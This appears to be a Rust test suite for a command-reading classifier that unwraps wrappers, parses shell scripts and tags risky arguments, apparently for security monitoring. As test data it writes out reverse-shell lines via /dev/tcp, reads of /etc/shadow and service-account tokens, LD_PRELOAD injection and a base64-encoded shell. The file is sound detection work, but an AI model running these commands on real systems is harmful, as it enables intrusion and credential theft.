use proptest::prelude::*;

use super::*;

fn read(argv: &[&str]) -> CommandReading {
    CommandReading::of(argv)
}

/// What `sh -c SCRIPT` runs, without the shell.
fn script(text: &str) -> String {
    let chain = read(&["sh", "-c", text]).to_string();
    let rest = chain.strip_prefix("sh -c").unwrap_or(&chain);
    let inner = rest.strip_prefix(" > ").or(rest.strip_prefix("; "));
    inner.unwrap_or(rest).to_owned()
}

#[test]
fn wrappers_are_taken_off() {
    for (argv, chain) in [
        (&["ls", "-l"][..], "ls"),
        (&["/usr/bin/ls"], "ls"),
        (&["busybox", "ls"], "ls"),
        (&["/bin/busybox", "busybox", "ls"], "ls"),
        (&["busybox"], "busybox"),
        (&["env", "-i", "A=b", "-u", "C", "ls"], "ls"),
        (&["env", "-S", "nice -n 5 ls -l"], "ls"),
        (&["env", "-Ssh -c 'ls | head'"], "sh -c > ls | head"),
        (&["env"], "env"),
        (&["nice", "-n", "10", "ionice", "-c2", "nohup", "ls"], "ls"),
        (&["timeout", "-k", "5", "-s", "KILL", "10s", "ls"], "ls"),
        (&["timeout", "--signal=KILL", "10", "ls"], "ls"),
        (&["stdbuf", "-o", "L", "setsid", "-w", "ls"], "ls"),
        (&["sudo", "-u", "root", "A=b", "ls"], "sudo > ls"),
        (&["sudo", "-i"], "sudo"),
        (&["su", "-", "app", "-c", "ls; id"], "su > ls; id"),
        (&["gosu", "app", "ls"], "gosu > ls"),
        (&["chroot", "/host", "sh"], "chroot > sh"),
        (
            &["nsenter", "-t", "1", "-m", "-p", "--", "bash"],
            "nsenter > bash",
        ),
        (
            &[
                "find", "/", "-name", "x", "-exec", "rm", "{}", ";", "-exec", "id", "+",
            ],
            "find > rm > id",
        ),
        (&["find", "/", "-name", "x"], "find"),
        (&["xargs", "-n", "1", "rm"], "xargs > rm"),
        (&["watch", "-n", "1", "ls | wc"], "watch > ls | wc"),
        (&["python3.11", "-c", "print(1)"], "python"),
        (&["/tmp/psql"], "/tmp/psql"),
        (&["./psql"], "./psql"),
        (&["/opt/bitnami/postgresql/bin/psql"], "psql"),
        (&["/tmp/busybox", "sh"], "/tmp/busybox"),
        (&["bash", "-lc", "ls"], "bash -c > ls"),
        (
            &["bash", "-e", "-o", "pipefail", "-c", "ls"],
            "bash -c > ls",
        ),
        (&["bash", "--norc", "-i"], "bash"),
        (&["sh", "/app/x.sh", "a"], "sh FILE"),
        (&["/tmp/sh", "-c", "id"], "/tmp/sh -c > id"),
        (&["sh -c", "id"], "sh_-c"),
        (
            &[
                "env",
                "SPO_EXEC_REQUEST_UID=4f2303d7-da46-4a8c-9ea4-3a830d478076",
                "ls",
            ],
            "ls",
        ),
    ] {
        let read = read(argv);
        assert_eq!(read.to_string(), chain, "{argv:?}");
        assert!(!read.unread, "{argv:?}");
    }
}

#[test]
fn scripts_are_opened() {
    for (text, chain) in [
        ("ls", "ls"),
        ("ls -l | head -n 3", "ls | head"),
        ("cd /app && ls; id || whoami", "cd; ls; id; whoami"),
        ("ls;id\nwhoami&", "ls; id; whoami"),
        ("echo 'a;b|c' \"d && e\" f\\;g", "echo"),
        ("A=b C=d ls", "ls"),
        ("A=b", ""),
        ("ls 2>&1 >/dev/null | wc", "ls | wc"),
        ("bash -i >& /dev/tcp/10.0.0.1/80 0>&1", "bash"),
        ("exec 5<>/dev/tcp/10.0.0.1/80", ">"),
        ("> /app/x", ">"),
        ("if test -f x; then ls; else id; fi", "test; ls; id"),
        ("for i in 1 2 3; do ls $i; done", "ls"),
        ("while true; do nc -l 1; done", "true; nc"),
        ("(ls; id) | wc", "ls; id | wc"),
        ("{ ls; id; } | wc", "ls; id | wc"),
        ("echo $(cat /etc/passwd)", "echo > cat"),
        ("echo `id`", "echo > id"),
        ("echo \"$(echo $(id))\"", "echo > echo > id"),
        ("echo $((1+2)) ${x:-1}", "echo"),
        ("diff <(ls) <(id)", "diff > ls > id"),
        ("eval 'ls | sh'", "eval > ls | sh"),
        (". /app/env.sh", "source"),
        ("c''url x; w\\get y; \"nc\" z", "curl; wget; nc"),
        ("sh -c \"sh -c 'id'\"", "sh -c > sh -c > id"),
        ("# it's a comment\nls # | sh", "ls"),
        ("ls \\\n -l", "ls"),
        ("! grep x y", "grep"),
        ("time nice ls", "ls"),
        ("nohup sh -c 'id' &", "sh -c > id"),
        ("cat <<< x | sh", "cat | sh"),
    ] {
        let read = read(&["sh", "-c", text]);
        assert_eq!(script(text), chain, "{text}");
        assert!(!read.unread, "{text}");
    }
}

#[test]
fn what_cannot_be_read_is_said() {
    for text in [
        "$X y",
        "${X}y z",
        "$(echo id)",
        "/???/s? -c id",
        "alias x=ls",
        "case x in a) ls;; esac",
        "sh <<EOF\nid\nEOF",
        "echo 'open",
        "echo \"open",
        "echo $(open",
        "echo ${x:-$(id)}",
        "echo \\",
    ] {
        assert!(read(&["sh", "-c", text]).unread, "{text}");
    }
    assert!(read(&["sh", "-c"]).unread);
    assert!(read(&["env", "-S", "'open"]).unread);
    assert!(!read(&["sh", "-c", "$X y"]).truncated);
    let long = "x".repeat(MAX_BYTES + 1);
    assert!(read(&["ls", &long]).truncated);
    assert!(CommandReading::of(&vec!["ls"; MAX_WORDS + 1]).truncated);
    assert!(read(&["sh", "-c", &"ls;".repeat(MAX_STEPS + 1)]).truncated);
    let deep = (0..20).fold("id".to_owned(), |inner, _| format!("echo $({inner})"));
    assert!(read(&["sh", "-c", &deep]).truncated);
}

#[test]
fn what_follows_a_here_document_is_read() {
    let read = read(&["sh", "-c", "cat <<EOF | sh; ls\nnot read\nEOF\nid"]);
    assert_eq!(read.to_string(), "sh -c > cat | sh; ls; id…");
}

#[test]
fn words_have_classes() {
    use ArgumentClass as C;
    for (word, classes) in [
        ("-l", &[C::Flag][..]),
        ("--config=/app/x", &[C::Flag, C::Path]),
        ("--data=@/etc/shadow", &[C::Flag, C::CredentialPath]),
        ("-d@/etc/passwd", &[C::Flag, C::SystemPath]),
        ("-5", &[C::Number]),
        ("10Gi", &[C::Number]),
        ("50%", &[C::Number]),
        ("shop", &[C::Word]),
        ("", &[]),
        ("/app/x.log", &[C::Path]),
        ("app/x.log", &[C::Path]),
        ("~/.ssh/id_rsa", &[C::CredentialPath]),
        ("/tmp/x", &[C::TemporaryPath]),
        ("/tmpfoo/x", &[C::Path]),
        ("/proc/1/status", &[C::SystemPath]),
        ("/proc/1/environ", &[C::CredentialPath]),
        (
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
            &[C::CredentialPath],
        ),
        ("/app/*.log", &[C::Path, C::Expression]),
        ("https://x/y", &[C::Url]),
        ("https://x.example/y", &[C::ExternalUrl]),
        ("http://localhost/y", &[C::LoopbackUrl]),
        ("http://169.254.169.254/", &[C::Metadata]),
        ("file:///etc/shadow", &[C::CredentialPath, C::LoopbackUrl]),
        ("10.0.0.1", &[C::Address]),
        ("::1", &[C::Address]),
        ("[::1]:80", &[C::Address]),
        ("db:5432", &[C::Address]),
        ("root@10.0.0.1:/x", &[C::Address]),
        ("pool.example:3333", &[C::ExternalAddress]),
        ("config/master.key", &[C::CredentialPath]),
        ("/dev/tcp/1.2.3.4/80", &[C::ExternalAddress]),
        ("A=b", &[C::Word, C::Assignment]),
        ("LD_PRELOAD=/tmp/x.so", &[C::TemporaryPath, C::Loader]),
        ("select 1", &[C::Expression]),
        ("COPY t TO '/tmp/x'", &[C::TemporaryPath, C::Expression]),
        ("YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4w", &[C::Encoded]),
        ("\\x62\\x61\\x73\\x68\\x62\\x61\\x73\\x68", &[C::Encoded]),
    ] {
        let mut set = ArgumentSet::default();
        set.classify(word);
        assert_eq!(set, classes.iter().copied().collect(), "{word}");
    }
}

#[test]
fn redirections_and_code_have_classes() {
    let classes = |text: &str| {
        let read = read(&["sh", "-c", text]);
        read.steps.last().unwrap().arguments
    };
    use ArgumentClass as C;
    assert_eq!(
        classes("ls > /tmp/x"),
        [C::Output, C::TemporaryPath].into_iter().collect()
    );
    assert!(classes("echo x >> /etc/ld.so.preload").contains(C::SystemOutput));
    assert_eq!(classes("ls 2>/dev/null"), ArgumentSet::default());
    assert_eq!(
        classes("cat < /etc/shadow"),
        [C::CredentialPath].into_iter().collect()
    );
    assert!(classes("bash -i >& /dev/tcp/1.1.1.1/80").contains(C::ExternalAddress));
    assert!(classes("python3 -c 'import os'").contains(C::Code));
    assert!(classes("perl -ne 'print'").contains(C::Code));
    assert!(!classes("grep -e x").contains(C::Code));
    assert!(classes("LD_PRELOAD=/x.so ls").contains(C::Loader));
}

#[test]
fn each_class_has_its_bit_and_each_program_one_class() {
    for (at, class) in ArgumentClass::ALL.into_iter().enumerate() {
        assert_eq!(class as usize, at);
    }
    for (program, class) in [
        ("bash", ProgramClass::Shell),
        ("sh -c", ProgramClass::Shell),
        ("cat", ProgramClass::Reader),
        ("nc", ProgramClass::Network),
        ("apk", ProgramClass::PackageManager),
        ("gdb", ProgramClass::Debugger),
        ("curl", ProgramClass::FileTransfer),
        ("/tmp/cat", ProgramClass::Unknown),
        ("psql", ProgramClass::Unknown),
    ] {
        assert_eq!(ProgramClass::of(program), class, "{program}");
    }
}

/// Pieces of which scripts are made that could be read wrongly.
fn hostile() -> impl Strategy<Value = String> {
    let pieces = [
        "sh", "-c", "env", "-S", "busybox", "find", "-exec", ";", "eval", "su", "watch", "xargs",
        "$(", "`", ")", "(", "((", "${", "}", "'", "\"", "\\", "\n", "|", "|&", "&", "&&", "&>",
        ">", ">&", "<", "<<", "<<<", "<(", "EOF", "#", "=", "A=", " ", "\t", "\0", "\u{1}",
        "\u{2}", "ü", "\u{202e}", "/", "/tmp/", "--", "-", "$X", "*", "case", "for", "do", "done",
        "!", "{", "exec", "trap", "timeout", "sudo", "python3", "-e",
    ];
    prop::collection::vec(prop::sample::select(pieces.to_vec()), 0..40)
        .prop_map(|pieces| pieces.concat())
}

fn is_bounded(read: &CommandReading) -> bool {
    let is_safe = |c: char| !crate::text::is_unsafe(c);
    read.steps.len() <= MAX_STEPS
        && read.steps.iter().all(|step| {
            step.program.len() <= MAX_PROGRAM
                && !step.program.is_empty()
                && step.program.chars().all(is_safe)
        })
        && read.to_string().len() <= MAX_STEPS * (MAX_PROGRAM + 3) + 3
}

proptest! {
    #[test]
    fn whatever_is_given_is_read_and_bounded(
        argv in prop::collection::vec(prop_oneof![hostile(), ".{0,40}", "\\PC{0,300}"], 0..8),
    ) {
        prop_assert!(is_bounded(&CommandReading::of(&argv)));
        let script = ["sh".to_owned(), "-c".to_owned(), argv.concat()];
        prop_assert!(is_bounded(&CommandReading::of(&script)));
    }

}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn what_is_long_is_read_as_far_as_the_limit(piece in hostile(), times in 1usize..5000) {
        let argv = ["sh".to_owned(), "-c".to_owned(), piece.repeat(times)];
        prop_assert!(is_bounded(&CommandReading::of(&argv)));
        let many = vec![piece; times];
        prop_assert!(is_bounded(&CommandReading::of(&many)));
    }
}

proptest! {
    #[test]
    fn a_word_without_meaning_is_found_wherever_it_is_run(
        wrappers in prop::collection::vec(prop::sample::select(vec!["env A=b", "nice -n 3", "nohup", "timeout 5", "sh -c", "busybox", "sudo -u x", "eval"]), 0..4),
    ) {
        // Each script is quoted for the shell around it.
        let mut command = "target --x".to_owned();
        for wrapper in wrappers.iter().rev() {
            command = match *wrapper {
                "sh -c" | "eval" => format!("{wrapper} {}", shlex::try_quote(&command).unwrap()),
                wrapper => format!("{wrapper} {command}"),
            };
        }
        let argv = shlex::split(&command).unwrap();
        let read = CommandReading::of(&argv);
        prop_assert_eq!(&read.steps.last().unwrap().program, "target", "{}", command);
    }
}
